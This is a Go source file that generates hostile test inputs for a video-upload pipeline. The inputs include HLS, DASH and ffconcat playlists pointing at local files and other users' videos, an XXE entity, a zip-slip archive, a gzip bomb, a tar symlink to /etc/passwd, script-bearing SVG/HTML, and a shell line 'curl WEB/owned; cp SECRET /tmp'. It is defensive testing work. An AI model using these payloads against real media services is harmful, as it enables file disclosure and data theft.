package main

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"fmt"

	"github.com/reelmill/reelmill/pipeline"
)

// The codes of most rejections.
var (
	notVideo    = []pipeline.Code{pipeline.CodeNotVideo}
	noContainer = []pipeline.Code{pipeline.CodeContainer}
	malformed   = []pipeline.Code{pipeline.CodeMalformed}
	noPicture   = []pipeline.Code{pipeline.CodeNoVideoStream}
	outside     = []pipeline.Code{pipeline.CodeLimits}
	tooLong     = []pipeline.Code{pipeline.CodeTooLong}
	cannotRead  = []pipeline.Code{pipeline.CodeEncrypted}
	noCodec     = []pipeline.Code{pipeline.CodeCodec}
)

// text makes a file of text. In it, WEB, SECRET and VICTIM stand for what a lab has.
func text(content string) func(lab, [][]byte) ([]byte, error) {
	return func(l lab, _ [][]byte) ([]byte, error) { return l.fill(content), nil }
}

// fill replaces the placeholders in a text.
func (l lab) fill(content string) []byte {
	b := []byte(content)
	for old, with := range map[string]string{"WEB": l.web, "SECRET": l.secret, "VICTIM": l.victim} {
		b = bytes.ReplaceAll(b, []byte(old), []byte(with))
	}
	return b
}

const (
	hlsList = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\nfile://VICTIM\n#EXTINF:5,\n" +
		"concat:SECRET|VICTIM\n#EXTINF:5,\nWEB/segment.ts\n#EXT-X-ENDLIST\n"
	hlsMaster = "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nWEB/a.m3u8\n#EXT-X-STREAM-INF:BANDWIDTH=2\nVICTIM\n"
	dash      = `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><BaseURL>WEB/` +
		`</BaseURL><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1">` +
		`<BaseURL>file://VICTIM</BaseURL></Representation></AdaptationSet></Period></MPD>`
	page = `<!DOCTYPE html><html><script>fetch("WEB/stolen")</script><img src="WEB/pixel"></html>`
	svg  = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">` +
		`<image xlink:href="WEB/x.png"/><image xlink:href="file://SECRET"/><script>alert(1)</script></svg>`
)

// otherFiles are files that are no video.
func otherFiles() []hostile {
	plain := func(id, ext, tries, content string) hostile {
		return hostile{id: id, ext: ext, tries: tries, ends: notVideo, build: text(content)}
	}
	made := func(id, ext, tries string, build func() []byte) hostile {
		return hostile{id: id, ext: ext, tries: tries, ends: notVideo,
			build: func(lab, [][]byte) ([]byte, error) { return build(), nil }}
	}
	return []hostile{
		plain("x_hls_mp4", "mp4", "an HLS playlist of another user's video, a secret and a URL", hlsList),
		plain("x_hls_ts", "ts", "the same, named .ts", hlsList),
		plain("x_hls_mkv", "mkv", "an HLS master playlist, named .mkv", hlsMaster),
		plain("x_dash", "mp4", "a DASH manifest", dash),
		plain("x_ffconcat", "mp4", "an ffconcat script",
			"ffconcat version 1.0\nfile 'VICTIM'\nfile 'WEB/a.mp4'\n"),
		plain("x_concat", "mov", "a concat script without a head line", "file '/etc/passwd'\nfile 'SECRET'\n"),
		plain("x_sdp", "mp4", "an SDP file of RTP from a server", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\n"+
			"c=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"),
		plain("x_asx", "wmv", "an ASX playlist", `<asx version="3.0"><entry><ref href="WEB/a.wmv"/></entry></asx>`),
		plain("x_qtl", "mov", "a QuickTime link", `<?xml version="1.0"?><?quicktime type="application/x-quicktime-`+
			`media-link"?><embed src="WEB/a.mov" autoplay="true"/>`),
		plain("x_rtsptext", "mov", "a QuickTime text redirection", "RTSPtext\r\nrtsp://127.0.0.1/VICTIM\r\n"),
		plain("x_smil", "mov", "a SMIL presentation", `SMILtext<smil><body><video src="WEB/a.mp4"/></body></smil>`),
		plain("x_cue", "flac", "a cue sheet", "FILE \"SECRET\" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n"),
		plain("x_ffmetadata", "mp4", "ffmpeg metadata", ";FFMETADATA1\ntitle=WEB\n[CHAPTER]\nSTART=0\nEND=1\n"),
		plain("x_avisynth", "avi", "an AviSynth script", "DirectShowSource(\"VICTIM\")\n"),
		plain("x_lavfi", "mp4", "a filter graph", "movie=VICTIM[out0]"),
		plain("x_srt", "mkv", "subtitles", "1\n00:00:01,000 --> 00:00:02,000\n<img src=\"WEB/x\">\n"),
		plain("x_ass", "mkv", "styled subtitles", "[Script Info]\nScriptType: v4.00+\n[Events]\n"+
			"Dialogue: 0,0:00:00.00,9:59:59.99,Default,,0,0,0,,{\\fnfile://SECRET}x\n"),
		plain("x_webvtt", "mp4", "WebVTT with links to images", "WEBVTT\n\n00:00.000 --> 00:10.000\nWEB/x.jpg\n"),
		plain("x_svg", "mp4", "an SVG with links and a script", svg),
		plain("x_html", "mp4", "a page with a script", page),
		plain("x_xxe", "mp4", "XML with an external entity",
			`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file://SECRET">]><a>&b;</a>`),
		plain("x_script", "mp4", "a shell script", "#!/bin/sh\ncurl WEB/owned; cp SECRET /tmp\n"),
		plain("x_pdf", "mp4", "a PDF that opens a URL", "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI"+
			"/URI(WEB)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"),
		plain("x_postscript", "mp4", "PostScript that reads a file",
			"%!PS\n(SECRET) (r) file 1000 string readstring\n"),
		plain("x_mvg", "mp4", "an ImageMagick script", "push graphic-context\nimage over 0,0 1,1 'WEB/x'\n"),
		made("x_elf", "mp4", "a Linux program", func() []byte {
			return cat([]byte("\x7fELF\x02\x01\x01"), zeroes(9), le16(2, 62), zeroes(4000))
		}),
		made("x_exe", "avi", "a Windows program", func() []byte { return cat([]byte("MZ\x90\x00"), zeroes(4000)) }),
		made("x_zip", "mp4", "a ZIP archive with a path that climbs", climbingZip),
		made("x_gzip", "mp4", "a gzip bomb", gzipBomb),
		made("x_tar", "mp4", "a tar archive with a link", linkingTar),
		made("x_png", "mp4", "a PNG of 400 MP", func() []byte { return blackPNG(20000, 20000) }),
		made("x_jpeg", "mp4", "a JPEG header", func() []byte {
			return []byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01")
		}),
		made("x_gif", "mp4", "a GIF of 65535x65535", func() []byte {
			return cat([]byte("GIF89a"), le16(65535, 65535), zeroes(100))
		}),
		made("x_tiff", "mov", "a TIFF whose directory points at itself", func() []byte {
			return cat([]byte("II*\x00"), le32(8), le16(0), le32(8))
		}),
		made("x_heic", "mp4", "a HEIC image grid", func() []byte {
			return cat(boxed("ftyp", []byte("heic"), be32(0), []byte("mif1heic")), fullBox("meta", 0, 0))
		}),
		made("x_sqlite", "mp4", "a database", func() []byte {
			return cat([]byte("SQLite format 3\x00"), zeroes(4000))
		}),
		made("x_zeros", "mp4", "a megabyte of zeros", func() []byte { return zeroes(1 << 20) }),
		made("x_byte", "mp4", "a single byte", func() []byte { return []byte{0x47} }),
		made("x_noise", "mkv", "noise", func() []byte { return garbage(100_000) }),
		{id: "x_nut", ext: "mp4", tries: "a real video in NUT, which is not read", ends: noContainer,
			from: []string{"x_small.nut"}, build: asIs},
		{id: "x_ivf", ext: "mkv", tries: "a real video in IVF, which is not read", ends: noContainer,
			from: []string{"x_vp8.ivf"}, build: asIs},
		{id: "x_rm", ext: "mp4", tries: "RealMedia", ends: noContainer,
			build: text(".RMF\x00\x00\x00\x12\x00\x00")},
		{id: "x_midi", ext: "mp4", tries: "MIDI", ends: noPicture, build: text("MThd\x00\x00\x00\x06\x00\x01")},
	}
}

// asIs is the first input.
func asIs(_ lab, in [][]byte) ([]byte, error) { return in[0], nil }

func climbingZip() []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w, err := z.Create("../../../x")
	if err == nil {
		_, err = fmt.Fprint(w, "owned")
	}
	if err == nil {
		err = z.Close()
	}
	if err != nil {
		panic(err) // a buffer takes all
	}
	return b.Bytes()
}

func gzipBomb() []byte {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, err := z.Write(zeroes(64 << 20))
	if err == nil {
		err = z.Close()
	}
	if err != nil {
		panic(err) // a buffer takes all
	}
	return b.Bytes()
}

func linkingTar() []byte {
	var b bytes.Buffer
	t := tar.NewWriter(&b)
	err := t.WriteHeader(&tar.Header{Name: "x", Linkname: "/etc/passwd", Typeflag: tar.TypeSymlink})
	if err == nil {
		err = t.Close()
	}
	if err != nil {
		panic(err) // a buffer takes all
	}
	return b.Bytes()
}

// harmlessly says why a file with a second meaning is right to be ready.
const harmlessly = "only the video is read and encoded anew; the rest goes nowhere"

// mark is a text that must be in no output.
const mark = "<script>ReelMillMark()</script>"

// polyglots are videos that other programs read as something else.
func polyglots() []hostile {
	front := func(content string) func(lab, [][]byte) ([]byte, error) {
		return func(l lab, in [][]byte) ([]byte, error) {
			b := in[0]
			ftyp := int(b[3])
			m := parseMovie(cat(b[:ftyp], boxed("free", l.fill(content+mark)), b[ftyp:]))
			shift := uint32(len(l.fill(content+mark)) + 8)
			moveChunks(m, shift)
			return m.bytes()
		}
	}
	behind := func(content string) func(lab, [][]byte) ([]byte, error) {
		return func(l lab, in [][]byte) ([]byte, error) { return cat(in[0], l.fill(content+mark)), nil }
	}
	ready := func(id, ext, tries, from string, build func(lab, [][]byte) ([]byte, error)) hostile {
		return hostile{id: id, ext: ext, tries: tries, harmless: harmlessly, from: []string{from}, build: build}
	}
	return []hostile{
		ready("x_mp4_html", "mp4", "an MP4 with a page in a free box", "x_av.mp4", front(page)),
		ready("x_mp4_hls", "mp4", "an MP4 with an HLS playlist in a free box", "x_av.mp4", front(hlsList)),
		ready("x_mp4_zip", "mp4", "an MP4 with a ZIP archive behind it", "x_av.mp4", func(_ lab, in [][]byte) (
			[]byte, error) {
			return cat(in[0], boxed("free", climbingZip())), nil
		}),
		ready("x_mp4_text", "mp4", "an MP4 with a script behind it", "x_av.mp4", behind("\n#!/bin/sh\ncurl WEB\n")),
		ready("x_hls_in_ts", "m3u8", "an HLS playlist before a transport stream", "x_small.ts", func(l lab,
			in [][]byte) ([]byte, error) {
			return cat(l.fill(hlsList), in[0]), nil
		}),
		ready("x_mkv_hls", "mkv", "a Matroska file with an HLS playlist in a void", "x_vp8.ivf", ofVP8(func(l lab,
			frames [][]byte) []byte {
			return webm{frames: frames, middle: ebml(mkVoid, l.fill(hlsList))}.bytes()
		})),
		ready("x_avi_concat", "avi", "an AVI with a concat script in a JUNK chunk", "x_mjpeg.jpg", func(l lab,
			in [][]byte) ([]byte, error) {
			junk := riff("JUNK", l.fill("\nffconcat version 1.0\nfile VICTIM\n"))
			return avi{codec: "MJPG", width: 320, height: 180, scale: 1, rate: 25, bits: 24,
				frames: repeated(in[0], 10), more: junk}.bytes(), nil
		}),
		{id: "x_id3_hls", ext: "mp4", tries: "an ID3 tag before an HLS playlist", ends: malformed,
			build: func(l lab, _ [][]byte) ([]byte, error) {
				return cat(id3(10, zeroes(10)), l.fill(hlsList)), nil
			}},
		{id: "x_ftyp_hls", tries: "a file type box before an HLS playlist", ends: malformed,
			build: func(l lab, _ [][]byte) ([]byte, error) {
				return cat(boxed("ftyp", []byte("isom"), be32(0)), l.fill(hlsList)), nil
			}},
		{id: "x_free_hls", tries: "an HLS playlist in a free box, and nothing else", ends: malformed,
			build: func(l lab, _ [][]byte) ([]byte, error) { return boxed("free", l.fill(hlsList)), nil }},
		{id: "x_ebml_hls", ext: "mkv", tries: "a Matroska header before a playlist", ends: malformed,
			build: func(l lab, _ [][]byte) ([]byte, error) { return cat(webm{}.head(), l.fill(hlsList)), nil }},
	}
}

// moveChunks adds to the offsets of the chunks of both tracks.
func moveChunks(m *movie, by uint32) {
	for _, path := range []string{firstTable, secondTable} {
		stco := m.at(path + "stco")
		for at := 8; at+4 <= len(stco.data); at += 4 {
			offset := uint32(stco.data[at])<<24 | uint32(stco.data[at+1])<<16 | uint32(stco.data[at+2])<<8 |
				uint32(stco.data[at+3])
			stco.put(at, be32(offset+by))
		}
	}
}
